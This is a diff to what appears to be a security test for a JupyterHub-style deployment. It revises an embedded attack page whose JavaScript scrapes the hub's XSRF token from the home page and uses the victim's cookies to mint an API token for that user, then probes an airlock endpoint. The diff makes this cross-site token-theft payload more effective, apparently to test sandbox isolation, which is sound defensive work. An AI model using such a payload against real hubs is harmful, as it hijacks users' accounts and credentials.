@@ -87,7 +87,13 @@ def submitted_request(dep: Deployment, researcher: HubUser, slug: str) -> int:
 ATTACK_PAGE = """<!doctype html><title>plot</title><script>
 window.attack = async (hub, airlock, victim) => {
   const out = {};
-  const xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1] || "";
+  let xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1] || "";
+  try {  // the hub's pages carry the XSRF token (window.jhdata.xsrf_token)
+    const r = await fetch(hub + "/hub/home", {credentials: "include"});
+    const html = await r.text();
+    xsrf = (html.match(/xsrf_token: *"([^"]+)"/) || [])[1] || xsrf;
+    out.home = r.status + " " + html.length;
+  } catch (e) { out.home = "blocked: " + e; }
   try {
     const r = await fetch(hub + "/hub/api/users/" + victim + "/tokens", {
       method: "POST", credentials: "include",
@@ -95,10 +101,6 @@ window.attack = async (hub, airlock, victim) => {
       body: JSON.stringify({note: "stolen by a sandbox page"})});
     out.token = r.status + " " + (await r.text()).slice(0, 300);
   } catch (e) { out.token = "blocked: " + e; }
-  try {
-    const r = await fetch(hub + "/hub/home", {credentials: "include"});
-    out.home = r.status + " " + (await r.text()).length;
-  } catch (e) { out.home = "blocked: " + e; }
   try {
     const r = await fetch(airlock + "api/whoami", {credentials: "include"});
     out.airlock = r.status + " " + (await r.text()).slice(0, 300);
